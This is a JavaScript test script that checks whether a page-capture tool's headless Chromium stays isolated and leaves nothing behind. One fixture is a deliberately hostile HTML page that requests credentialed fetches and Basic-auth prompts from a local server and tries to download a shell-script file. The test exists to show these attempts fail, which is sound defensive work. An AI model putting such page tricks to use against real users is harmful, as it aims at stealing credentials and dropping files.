// What a page may do in the browser of a capture, and what stays of that browser: node chromium.mjs JS INPUTS WORK
import { spawn } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { delimiter, join, resolve } from 'node:path';
import { setTimeout as later } from 'node:timers/promises';
import { pathToFileURL } from 'node:url';
import { check, finish, node } from './command.mjs';

const [js, inputs, work] = process.argv.slice(2).map((path) => resolve(path));
const place = join(work, 'chromium');
rmSync(place, { recursive: true, force: true });
const [home, temporary, programs] = ['home', 'tmp', 'programs'].map((name) => join(place, name));
for (const folder of [home, temporary, programs]) mkdirSync(folder, { recursive: true });
writeFileSync(join(programs, 'xdg-open'), `#!/bin/sh\necho "$@" >> '${join(place, 'opened')}'\n`);
chmodSync(join(programs, 'xdg-open'), 0o755);

/** Starts the command. Its process ends by itself, as that of the launcher does. */
function begun(folder, more = []) {
  const script = `import(${JSON.stringify(pathToFileURL(join(js, 'dotnet/cli.js')).href)}).then(async ({ run }) => (process.exitCode = await run(process.argv.slice(1))))`;
  const command = spawn(node, ['-e', script, '--', folder, '-o', join(place, 'out'), ...more], {
    env: { ...process.env, HOME: home, TMPDIR: temporary, PATH: `${programs}${delimiter}${process.env.PATH}` }, stdio: ['ignore', 'pipe', 'pipe'],
  });
  let said = '';
  for (const pipe of [command.stdout, command.stderr]) pipe.on('data', (data) => (said += data));
  const ended = new Promise((done) => command.once('exit', (status, signal) => done({ status, signal })));
  return { command, said: () => said.trim(), ended: Promise.race([ended, later(100_000, { status: 'still there' }, { ref: false })]) };
}

function changed(name, change) {
  const folder = join(place, name);
  cpSync(join(inputs, 'blazor/wwwroot'), folder, { recursive: true });
  const page = join(folder, 'index.html');
  writeFileSync(page, change(readFileSync(page, 'utf8')));
  return folder;
}
const nothingLeft = (what) => check(`${what}: nothing is left of the browser`, readdirSync(temporary).length === 0, readdirSync(temporary).join(' '));

// Another user of the machine has a port that the page loads from, and asks for passwords, too.
const seen = [];
const other = createServer((request, response) => {
  seen.push([request.url, request.headers.authorization, request.headers.cookie].join(' '));
  const { origin = '*' } = request.headers;
  response.writeHead(request.url.startsWith('/asks') ? 401 : 200, {
    'www-authenticate': 'Basic realm="preinit-capture"', 'content-type': 'text/javascript', 'access-control-allow-origin': origin, 'access-control-allow-credentials': 'true',
  }).end();
});
await new Promise((done) => other.listen(0, '127.0.0.1', done));
const elsewhere = `http://127.0.0.1:${other.address().port}`;
const hostile = changed('hostile', (text) => text.replace('<body>', `<body>
  <img src="${elsewhere}/image"><img src="${elsewhere}/asks"><script src="${elsewhere}/script"></script><iframe src="${elsewhere}/frame"></iframe>
  <iframe src="saved.bin"></iframe><iframe src="mailto:nobody@example.com"></iframe>
  <script>
    for (const path of ['/fetched', '/asks/fetched']) fetch('${elsewhere}' + path, { credentials: 'include' }).catch(() => {});
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['#!/bin/sh'], { type: 'application/octet-stream' }));
    link.download = 'saved.desktop';
    document.documentElement.append(link);
    link.click();
  </script>`));
writeFileSync(join(hostile, 'saved.bin'), 'saved');
const { ended, said } = begun(hostile);
const { status } = await ended;
check('a page that does all kinds of things is captured', status === 0, said());
other.closeAllConnections();
other.close();
check('other ports learn no password', seen.length >= 6 && seen.every((one) => /^\/\w+(\/fetched)? {2}$/.test(one)), seen.join(', '));
const saved = readdirSync(home, { recursive: true }).filter((name) => /saved|Downloads/.test(name));
check('no file is saved', saved.length === 0, saved.join(' '));
check('no program is started for a link', !existsSync(join(place, 'opened')));
nothingLeft('a hostile page');

for (const base of ['/\u043f\u0440\u0438\u043b\u043e\u0436\u0435\u043d\u0438\u0435/', '/\u00fcber/a%20b/']) {
  const based = changed(`base${base.length}`, (text) => text.replace(/<base href="\/" *\/>/, `<base href="${base}" />`));
  const { ended, said } = begun(based);
  check(`a page below ${base}`, (await ended).status === 0, said());
}
nothingLeft('other bases');

// What is no browser, or none is there.
const silent = join(place, 'silent');
writeFileSync(silent, '#!/bin/sh\nprintf "\\0null\\0{\\0" >&4\nexit 3\n');
chmodSync(silent, 0o755);
for (const [path, expected] of [[join(place, 'nowhere'), /there is no such file$/], [join(hostile, 'index.html'), /^error: .*EACCES$/], [silent, /^error: .*silent ended with code 3:?$/]]) {
  const { ended, said, command } = begun(hostile, ['--chromium', path]);
  const { status } = await Promise.race([ended, later(20_000, { status: 'still there' }, { ref: false })]);
  check(`no browser: ${path.slice(place.length)}`, status === 2 && expected.test(said()) && !said().includes('\n'), `${status} ${said()}`);
  if (status === 'still there') command.kill('SIGKILL');
}
nothingLeft('no browser');

for (const signal of ['SIGTERM', 'SIGINT']) {
  const { ended, said, command } = begun(changed(signal, (text) => text.replace('<body>', '<body><script>for (;;);</script>')));
  const isThere = () => readdirSync(temporary).some((name) => name.startsWith('preinit-chromium-'));
  for (let times = 0; times < 200 && !isThere(); times++) await later(50);
  const wasThere = isThere();
  await later(2000);
  command.kill(signal);
  check(`it ends by ${signal}`, wasThere && (await ended).signal === signal, said());
  nothingLeft(signal);
}
rmSync(place, { recursive: true, force: true });
finish();
